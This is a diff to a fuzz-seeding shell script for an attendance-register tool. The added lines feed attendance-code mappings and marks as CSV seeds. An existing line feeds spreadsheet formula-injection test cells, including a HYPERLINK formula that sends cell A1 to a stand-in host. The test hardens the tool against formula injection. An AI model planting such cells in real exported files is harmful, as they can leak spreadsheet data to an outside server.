@@ -98,6 +98,10 @@ if [ "$target" = query ]; then
 else
   # The worked register, the year-end golden register, and a small demo register.
   for f in "$root"/Tests/Fixtures/worked/*.csv "$root"/Tests/Golden/registers/yearend/*.csv; do seed < "$f"; done
+  # A codes.csv (MIS codes mapped to national ones), good and odd; marks with codes it maps.
+  printf 'code,means,description\nI01,I,Illness\nU1,U,Late after close\nX9,O,"Odd, quoted"\n' | seed
+  printf 'code,means\nI01,I\nI01,M\n/,O\n' | seed
+  printf 'upn,date,session,mark\nA123456789012,2025-09-03,AM,I01\nA123456789012,2025-09-03,PM,U1\nA123456789012,2025-09-04,AM,I01\n' | seed
   # Cells a spreadsheet would run as formulas, quoted and not (issue 12).
   printf 'upn,forename,surname,year,form,contact_name\nW100000000001,=1+1,"=HYPERLINK(""http://x/?""&A1,""y"")",9,9A,@SUM(A1)\nW100000000002,+1,-2+3,9,9A,"\r=x"\n' | seed
   ASAN_OPTIONS=detect_leaks=0 ATTEND_FUZZ_WRITE_SEEDS="$seeds" "$binary" >/dev/null
